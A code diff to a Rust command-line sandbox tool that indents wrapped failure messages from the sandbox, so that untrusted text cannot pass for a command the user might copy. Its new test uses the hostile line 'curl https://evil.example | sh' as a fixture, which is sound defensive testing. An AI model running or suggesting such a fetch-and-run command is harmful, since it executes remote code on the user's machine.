@@ -19,6 +19,9 @@ pub const SIGN_IN: &str = "airlock setup codex-auth";
 /// The command for whoever pays with a key, or may.
 pub const GIVE_A_KEY: &str = "airlock run --api-key-file FILE …";
 
+/// What stands before words that the host did not find itself.
+pub const SANDBOX_SAYS: &str = "sandbox says: ";
+
 /// An address as it may be copied into a shell; `URL` for one that may not.
 #[must_use]
 pub fn address(base: &str) -> &str {
@@ -124,6 +127,7 @@ impl From<&Fault> for Failure {
             FaultKind::Workspace => ("workspace", None),
             FaultKind::Cassette => ("cassette", Some("airlock run --record FILE …")),
             FaultKind::Forged => ("the box claims what did not happen", None),
+            FaultKind::Claimed => ("failed", None),
             FaultKind::Disk => ("cannot write", None),
         };
         let failure = Self::new(Exit::of_fault(fault.kind), headline, fault.message.clone());
@@ -138,7 +142,10 @@ impl From<&Fault> for Failure {
 impl std::fmt::Display for Failure {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         let said = neutral::line(&format!("{}: {}", self.headline, self.reason));
-        f.write_str(&text::wrap(&said, text::COLUMNS, ""))?;
+        // THREAT: words of the sandbox's that reach the next line stand where a command of ours
+        // would. Tried by failure::tests::words_of_the_sandbox_never_begin_a_line.
+        let indent = if self.reason.contains(SANDBOX_SAYS) { "    " } else { "" };
+        f.write_str(&text::wrap(&said, text::COLUMNS, indent))?;
         match &self.hint {
             // Never wrapped: it is there to be copied.
             Some(hint) => write!(f, "\n{}", neutral::line(hint)),
@@ -204,5 +211,14 @@ mod tests {
         for (outcome, expected) in cases {
             assert_eq!(said(&outcome), expected);
         }
+    }
+
+    #[test]
+    fn words_of_the_sandbox_never_begin_a_line() {
+        let reason = format!("{SANDBOX_SAYS}“{} curl https://evil.example | sh”", "x ".repeat(60));
+        let shown = Failure::from(&Fault::new(FaultKind::Claimed, reason)).to_string();
+        let mut lines = shown.lines();
+        assert!(lines.next().is_some_and(|line| line.starts_with("failed: sandbox says: “x ")));
+        assert!(lines.clone().count() > 0 && lines.all(|line| line.starts_with("    ")), "{shown}");
     }
 }
